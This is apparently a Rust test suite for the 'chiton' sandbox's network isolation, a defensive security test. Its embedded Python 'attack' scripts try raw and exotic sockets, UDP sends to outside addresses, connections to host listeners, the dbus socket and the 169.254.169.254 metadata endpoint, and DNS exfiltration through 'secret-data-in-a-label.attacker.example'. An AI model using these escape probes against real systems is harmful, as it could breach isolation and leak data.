//! Nothing leaves the sandbox that the proxy did not decide on.

use std::{
    net::{TcpListener, UdpSocket},
    os::unix::net::UnixListener,
    time::Duration,
};

use chiton_tests::{As, World, http_policy};

const RULE: &str = "{host: api.example.com}";

fn python(world: &World, script: &str) -> String {
    world.chiton.write_workspace("attack.py", script);
    let policy = world.chiton.policy(&http_policy(&[RULE]));
    world.chiton.sandboxed(&policy, &["/usr/bin/python3", "attack.py"]).expect_success().stdout
}

#[test]
fn sockets_of_other_kinds_do_not_open() {
    for user in [As::User, As::Root] {
        let world = World::new(user, &["api.example.com"], chiton_testkit::Router::echo());
        let script = r#"
import socket
tries = {
    "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), "raw6": (socket.AF_INET6, socket.SOCK_RAW, 58),
    "packet": (17, socket.SOCK_RAW, 0), "packet-dgram": (17, socket.SOCK_DGRAM, 0), "vsock": (40, socket.SOCK_STREAM, 0),
    "alg": (38, socket.SOCK_SEQPACKET, 0), "netfilter": (16, socket.SOCK_RAW, 12), "bluetooth": (31, socket.SOCK_RAW, 1),
    "can": (29, socket.SOCK_RAW, 1), "xdp": (44, socket.SOCK_RAW, 0), "tipc": (30, socket.SOCK_STREAM, 0),
    "unix-datagram": (socket.AF_UNIX, socket.SOCK_DGRAM, 0), "key": (15, socket.SOCK_RAW, 2),
}
opened = []
for name, args in tries.items():
    try:
        socket.socket(*args); opened.append(name)
    except OSError: pass
print(opened)
"#;
        assert_eq!(python(&world, script), "[]\n");
    }
}

#[test]
fn datagrams_do_not_arrive() {
    let world = World::echo(&["api.example.com"]);
    let listener = UdpSocket::bind("127.0.0.1:0").expect("a port");
    listener.set_read_timeout(Some(Duration::from_millis(300))).expect("a timeout");
    let port = listener.local_addr().expect("its address").port();
    let script = format!(
        r#"
import socket
for target in ("127.0.0.1", "198.18.1.0", "8.8.8.8", "255.255.255.255"):
    for port in ({port}, 443, 123):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try: s.sendto(b"out", (target, port))
        except OSError: pass
print("sent")
"#
    );
    assert_eq!(python(&world, &script), "sent\n");
    let mut buffer = [0; 16];
    assert!(listener.recv(&mut buffer).is_err(), "a datagram left the sandbox");
}

#[test]
fn the_hosts_own_listeners_cannot_be_reached() {
    let world = World::echo(&["api.example.com"]);
    let tcp = TcpListener::bind("0.0.0.0:0").expect("a port");
    tcp.set_nonblocking(true).expect("non-blocking");
    let port = tcp.local_addr().expect("its address").port();
    let inside = world.chiton.workspace().join("host.sock");
    let unix = UnixListener::bind(&inside).expect("a socket in the workspace");
    unix.set_nonblocking(true).expect("non-blocking");
    std::fs::set_permissions(&inside, std::os::unix::fs::PermissionsExt::from_mode(0o777)).expect("mode");
    let gateway = world.chiton.path("run").join("gateway.sock").display().to_string();
    let script = format!(
        r#"
import os, socket
reached = []
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("10.0.0.1", {port})),
                        (socket.AF_INET6, ("::1", {port})), (socket.AF_INET, ("169.254.169.254", 80)),
                        (socket.AF_UNIX, "/workspace/host.sock"), (socket.AF_UNIX, "{gateway}"),
                        (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "\0chiton")]:
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect(address); s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        if b"403" not in s.recv(64) and s.recv(1): reached.append(str(address))
    except OSError: pass
print(reached)
"#
    );
    assert_eq!(python(&world, &script), "[]\n");
    assert!(tcp.accept().is_err() && unix.accept().is_err(), "a host's listener was reached");
}

#[test]
fn its_own_services_on_loopback_are_its_own() {
    let world = World::echo(&["api.example.com"]);
    let script = r#"
import http.server, threading, urllib.request
server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print(urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/attack.py").status)
"#;
    assert!(python(&world, script).starts_with("200"));
}

#[test]
fn every_port_is_captured_and_other_protocols_are_reset() {
    let world = World::echo(&["api.example.com"]);
    let script = r#"
import socket
results = []
for port in (22, 25, 853, 5432, 6379, 65535):
    s = socket.create_connection(("api.example.com", port), timeout=10)
    s.sendall(b"SSH-2.0-x\r\n\x00\x01")
    try: results.append(s.recv(10))
    except ConnectionResetError: results.append("reset")
print(set(results))
"#;
    let out = python(&world, script);
    assert!(out == "{'reset'}\n" || out == "{b''}\n", "{out}");
    assert_eq!(world.upstream.log().connections(), 0);
}

#[test]
fn names_are_answered_by_us_alone() {
    let world = World::echo(&["api.example.com"]);
    let script = r#"
import socket
inside = lambda a: a.startswith(("198.18.", "198.19.", "fd"))
names = ["api.example.com", "secret-data-in-a-label.attacker.example", "other.example.org"]
print(all(inside(i[4][0]) for n in names for i in socket.getaddrinfo(n, 443)))
print(len({socket.gethostbyname(n) for n in names}), socket.gethostbyname(names[0]) == socket.gethostbyname(names[0]))
refused = 0
for n in range(2000):
    try: socket.gethostbyname(f"x{n}.attacker.example")
    except socket.gaierror: refused += 1
print(refused > 0)
print(inside(socket.gethostbyname(names[0])))
"#;
    assert_eq!(python(&world, script), "True\n3 True\nTrue\nTrue\n");
}
